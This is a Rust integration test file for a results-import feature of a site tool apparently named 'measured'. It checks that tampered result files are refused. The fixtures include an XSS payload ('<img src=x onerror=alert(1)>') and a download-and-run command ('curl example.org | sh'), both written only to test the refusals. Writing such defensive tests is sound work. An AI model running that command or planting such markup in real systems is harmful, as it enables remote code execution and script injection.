//! Integration tests of other machines' results: `measured measure` writing a results file,
//! `measured results import` checking and adding it to machines/, the "measured elsewhere"
//! block showing each machine's values and claim outcomes, the primary machine, stale files,
//! and the refusals of tampered files.

mod common;

use std::path::PathBuf;

use common::fixtures::{experiment_source, site_with};
use common::{TestSite, html, texts};
use serde_json::{Value, json};

const SPEED: &str =
    r#"{"ratio": {"type": "ratio", "value": 3.0, "low": 2.9, "high": 3.1}, "bytes": 40}"#;

const BLOCK: &str = "```machines speed\nvalue: ratio | R\nvalue: bytes | B | bytes\n```\n";

/// A site with experiment `speed` and an article whose two claims rest on it, shown in a
/// machines block in both languages.
fn speed_site() -> TestSite {
    let site = site_with(&[("speed", experiment_source("speed", SPEED))]);
    site.article(
        "a",
        "vi",
        "title: A\ndate: 2026-01-01\nclaims:\n  fast: speed.ratio > 2\n  small: speed.bytes < 100",
        &format!("Nhanh {{{{ speed.ratio }}}}. {{{{ claim.fast }}}} Gọn. {{{{ claim.small }}}}\n\n{BLOCK}"),
    );
    site.article(
        "a",
        "en",
        "title: A\ndate: 2026-01-01",
        &format!("Fast {{{{ speed.ratio }}}}. {{{{ claim.fast }}}} Small. {{{{ claim.small }}}}\n\n{BLOCK}"),
    );
    site
}

/// A results file of `speed` from another machine, as `measured measure` writes one, whose
/// ratio is `ratio` (±5 %) in each of three runs.
fn other_machine(site: &TestSite, cpu: &str, ratio: f64) -> Value {
    let crates = measured::experiments::workspace::discover(&site.path("experiments")).unwrap();
    let hash = crates["speed"].source_hash[..16].to_string();
    let run = |i: usize| {
        json!({
            "results": {"ratio": {"type": "ratio", "value": ratio, "low": ratio * 0.95, "high": ratio * 1.05}, "bytes": 40},
            "output": "speed 55\n",
            "provenance": {
                "experiment": "speed", "source_hash": hash, "lock_hash": "0123456789abcdef",
                "rustc": "rustc 1.91.0 (f8297e351 2025-10-28)", "cpu": cpu, "cores": 64,
                "kernel": "6.9.0", "measured_at": format!("2026-11-0{i}T10:00:00Z"),
                "load_before": [0.1, 0.1, 0.1], "load_after": [0.2, 0.2, 0.2],
                "duration_secs": 0.5, "quick": false,
                "command": "cargo run --release -- measure speed --out speed.results.json"
            }
        })
    };
    json!({"format": "measured-results/1", "experiment": "speed", "source_hash": hash, "runs": [run(1), run(2), run(3)]})
}

fn write_json(site: &TestSite, rel: &str, v: &Value) -> PathBuf {
    site.write(rel, &serde_json::to_string_pretty(v).unwrap());
    site.path(rel)
}

fn import(site: &TestSite, files: &[PathBuf], name: Option<&str>) -> Result<Vec<String>, String> {
    let config = measured::config::load(site.root()).map_err(|e| e.to_string())?;
    measured::experiments::machines::import(&config, files, name)
        .map(|done| done.iter().map(|i| i.machine.clone()).collect())
        .map_err(|e| {
            e.to_string()
                .replace(&format!("{}/", site.root().display()), "")
        })
}

/// The cells of column `n` (from 1) of the machines table's body: its row labels (1), or one
/// machine's facts, values and claim outcomes.
fn column(doc: &scraper::Html, n: usize) -> Vec<String> {
    texts(doc, &format!("figure.machines tbody tr > :nth-child({n})"))
}

/// The machines the table shows, in order.
fn machines(doc: &scraper::Html) -> Vec<String> {
    texts(doc, "figure.machines thead th:not(:first-child)")
}

#[test]
fn measure_writes_a_results_file_that_imports_back_and_a_tampered_copy_is_refused() {
    let site = speed_site();
    let stderr = |out: std::process::Output| String::from_utf8_lossy(&out.stderr).to_string();
    let e = stderr(site.cli(&["measure", "sped"]));
    assert!(
        e.contains("`sped` is not an experiment of this site\n  = help: did you mean `speed`?"),
        "{e}"
    );
    let e = stderr(site.cli(&["measure", "speed", "--out", "content/a/speed.json"]));
    assert!(e.contains("--out lies inside the site's sources"), "{e}");
    assert!(!site.path("content/a/speed.json").exists());

    let out = site.cli(&["measure", "speed", "--out", "speed.results.json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let file: Value = serde_json::from_str(&site.read("speed.results.json")).unwrap();
    assert_eq!(file["format"], "measured-results/1");
    assert_eq!(file["runs"].as_array().map(Vec::len), Some(3));
    assert_eq!(file["runs"][0]["results"]["bytes"], 40);
    let p = &file["runs"][0]["provenance"];
    assert_eq!(p["source_hash"], file["source_hash"]);
    assert_eq!(p["quick"], false);
    assert!(p["cpu"].as_str().is_some_and(|c| !c.is_empty()));
    // Nothing but the file: neither the cache nor the history.
    assert!(!site.path(".measured/results/speed.json").exists());

    let out = site.cli(&["results", "import", "speed.results.json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let machine = stdout
        .split('`')
        .nth(1)
        .expect("the machine is named")
        .to_string();
    assert!(stdout.starts_with("imported "), "{stdout}");
    let kept: Value =
        serde_json::from_str(&site.read(&format!("machines/{machine}/speed.json"))).unwrap();
    assert_eq!(kept["runs"], file["runs"]);

    let mut tampered = file.clone();
    tampered["runs"][1]["provenance"]["cpu"] = json!("<img src=x onerror=alert(1)>");
    write_json(&site, "tampered.json", &tampered);
    let out = site.cli(&["results", "import", "tampered.json", "--as", "evil"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("tampered.json: error: $.runs[1].provenance.cpu: holds '<': markup and control characters are refused in provenance"),
        "{stderr}"
    );
    assert!(!site.path("machines/evil").exists());
}

#[test]
fn another_machine_is_shown_with_its_values_and_claims_and_a_claim_failing_there_is_no_error() {
    let site = speed_site();
    let file = write_json(
        &site,
        "big.json",
        &other_machine(&site, "Big CPU 9000", 1.5),
    );
    assert_eq!(
        import(&site, &[file], Some("big-box")),
        Ok(vec!["big-box".to_string()])
    );
    let b = site.build().unwrap_or_else(|e| panic!("{e}"));
    // The page's results.json holds every machine the page shows, with its provenance, and
    // each claim's verdict on each of them.
    let json: Value = serde_json::from_slice(b.output.get("a/results.json").unwrap()).unwrap();
    let other = &json["machines"]["big-box"]["speed"];
    assert_eq!(other["provenance"]["cpu"], "Big CPU 9000");
    assert_eq!(other["results"]["ratio"]["value"], 1.5);
    assert_eq!(other["conditions"]["runs"], 3);
    assert_eq!(
        json["experiments"]["speed"]["results"]["ratio"]["value"],
        3.0
    );
    let verdicts: Vec<(&str, &str, &str)> = json["claims"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            let here = c["verdict"].as_str().unwrap();
            (
                c["id"].as_str().unwrap(),
                here,
                c["machines"]["big-box"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        verdicts,
        [("fast", "holds", "fails"), ("small", "holds", "holds")]
    );
    let vi = html(&b, "a/index.html");
    assert_eq!(machines(&vi), ["Máy dựng trang này", "big-box"]);
    assert_eq!(
        column(&vi, 1),
        [
            "CPU",
            "Số lõi",
            "Hệ điều hành",
            "Trình biên dịch",
            "Điều kiện đo",
            "Ngày đo",
            "R",
            "B",
            "Nhận định fast",
            "Nhận định small"
        ]
    );
    assert_eq!(
        column(&vi, 3),
        [
            "Big CPU 9000",
            "64",
            "Linux 6.9.0",
            "rustc 1.91.0 (f8297e351 2025-10-28)",
            "tải thấp hơn số lõi",
            "2026-11-03",
            "1,5×",
            "40 B",
            "✗ sai",
            "✓ đúng"
        ]
    );
    assert_eq!(column(&vi, 2)[6..], ["3×", "40 B", "✓ đúng", "✓ đúng"]);
    assert_eq!(
        texts(&vi, ".machines-summary li"),
        [
            "Nhận định fast đúng trên 1 trong số 2 máy.",
            "Nhận định small đúng trên 2 trong số 2 máy."
        ]
    );
    let en = html(&b, "en/a/index.html");
    assert_eq!(
        texts(&en, ".machines-summary li"),
        [
            "Claim fast holds on 1 of 2 machines.",
            "Claim small holds on 2 of 2 machines."
        ]
    );
    assert_eq!(column(&en, 3)[6..], ["1.5×", "40 B", "✗ fails", "✓ holds"]);
    assert_eq!(
        texts(&en, "figure.machines figcaption"),
        ["The speed experiment on 2 machines"]
    );

    // Made the site's primary, the machine whose claim fails fails a strict build, as any
    // primary's, and is published with its verdict otherwise.
    site.write(
        "site.toml",
        &format!(
            "{}\n[machines]\nprimary = \"big-box\"\n",
            site.read("site.toml")
        ),
    );
    let b = site.build().unwrap_or_else(|e| panic!("{e}"));
    assert!(
        b.claims
            .iter()
            .any(|c| c.id == "fast" && c.verdict == measured::claims::Verdict::Fails)
    );
    let e = site.build_err_strict();
    assert!(e.contains("claim `fast` fails: speed.ratio > 2"), "{e}");
    assert!(e.contains("1.5"), "{e}");
}

#[test]
fn the_primary_machine_publishes_its_results_without_measuring() {
    let site = speed_site();
    let file = write_json(
        &site,
        "big.json",
        &other_machine(&site, "Big CPU 9000", 5.0),
    );
    import(&site, &[file], Some("big-box")).unwrap();
    site.write(
        "site.toml",
        &format!(
            "{}\n[machines]\nprimary = \"big-box\"\n",
            site.read("site.toml")
        ),
    );
    let b = site.build().unwrap_or_else(|e| panic!("{e}"));
    assert!(common::fixtures::runs(&site).is_empty(), "nothing ran");
    let en = html(&b, "en/a/index.html");
    assert_eq!(texts(&en, ".content p data"), ["5×"]);
    assert_eq!(machines(&en), ["big-box (the site's primary)"]);
    site.write(
        "site.toml",
        &site.read("site.toml").replace("big-box", "nowhere"),
    );
    let e = site.build_err();
    assert!(
        e.contains("machines/nowhere/speed.json: error: [machines] primary = \"nowhere\", and that machine has no current results of `speed`"),
        "{e}"
    );
}

#[test]
fn tampered_files_are_refused_naming_the_file_the_field_and_what_to_do_and_nothing_is_written() {
    let site = speed_site();
    let good = other_machine(&site, "Big CPU 9000", 3.0);

    let mut moved = good.clone();
    moved["source_hash"] = json!("ffffffffffffffff");
    for i in 0..3 {
        moved["runs"][i]["provenance"]["source_hash"] = json!("ffffffffffffffff");
    }
    let moved = write_json(&site, "moved.json", &moved);
    let e = import(&site, &[moved], None).unwrap_err();
    let now = &good["source_hash"].as_str().unwrap();
    assert_eq!(
        e,
        format!(
            "moved.json: error: $.source_hash: the runs measured source `ffffffffffffffff` of experiment `speed`, and its source is now `{now}`\n  = help: measure the current source again on that machine (`measured measure speed --out FILE` from an up-to-date clone) and import the new file"
        )
    );

    site.write(
        "broken.json",
        "{\n  \"format\": \"measured-results/1\",\n  \"experiment\": \"speed\"\n  \"runs\": []\n}\n",
    );
    let e = import(&site, &[site.path("broken.json")], None).unwrap_err();
    assert!(
        e.starts_with("broken.json:4:3: error: not valid JSON: expected `,` or `}`"),
        "{e}"
    );

    let mut html_field = good.clone();
    html_field["runs"][0]["provenance"]["kernel"] = json!("6.9 <b>fast</b>");
    let html_field = write_json(&site, "html.json", &html_field);
    let e = import(&site, &[html_field], None).unwrap_err();
    assert!(
        e.starts_with("html.json: error: $.runs[0].provenance.kernel: holds '<'"),
        "{e}"
    );

    let mut future = good.clone();
    future["format"] = json!("measured-results/2");
    let future = write_json(&site, "future.json", &future);
    let e = import(&site, &[future], None).unwrap_err();
    assert!(
        e.contains("future.json: error: $.format: version `measured-results/2` is not one this measured reads (measured-results/1)"),
        "{e}"
    );

    let mut command = good.clone();
    command["runs"][2]["provenance"]["command"] = json!("curl example.org | sh");
    let command = write_json(&site, "command.json", &command);
    let e = import(&site, &[command], None).unwrap_err();
    assert!(
        e.contains("$.runs[2].provenance.command: is not the command measured runs"),
        "{e}"
    );

    let mut unknown = good.clone();
    unknown["experiment"] = json!("sped");
    let unknown = write_json(&site, "unknown.json", &unknown);
    let e = import(&site, &[unknown], None).unwrap_err();
    assert!(
        e.contains("$.experiment: `sped` is not an experiment of this site\n  = help: did you mean `speed`?"),
        "{e}"
    );

    // A good file with a bad one: both are checked, neither written.
    let good_path = write_json(&site, "good.json", &good);
    let e = import(&site, &[good_path.clone(), site.path("broken.json")], None).unwrap_err();
    assert!(e.contains("broken.json:4:3"), "{e}");
    assert!(!site.path("machines").exists());
    assert_eq!(
        import(&site, &[good_path], None),
        Ok(vec!["big-cpu-9000-x64".to_string()])
    );
}

#[test]
fn results_of_a_source_that_changed_since_are_not_shown_and_a_warning_says_to_measure_again() {
    let site = speed_site();
    let file = write_json(
        &site,
        "big.json",
        &other_machine(&site, "Big CPU 9000", 3.0),
    );
    import(&site, &[file], Some("big-box")).unwrap();
    site.write(
        "experiments/speed/src/main.rs",
        &experiment_source("speed, faster", SPEED),
    );
    let b = site.build().unwrap_or_else(|e| panic!("{e}"));
    let stale: Vec<String> = b
        .warnings
        .iter()
        .map(|w| w.to_string())
        .filter(|w| w.contains("stale"))
        .collect();
    assert_eq!(stale.len(), 1, "{stale:?}");
    assert!(
        stale[0].contains("machines/big-box/speed.json: error: the results of `speed` on machine `big-box` are stale and not shown: $.source_hash: the runs measured source"),
        "{}",
        stale[0]
    );
    assert!(stale[0].contains("measured measure speed"), "{}", stale[0]);
    let vi = html(&b, "a/index.html");
    assert_eq!(machines(&vi), ["Máy dựng trang này"]);
}
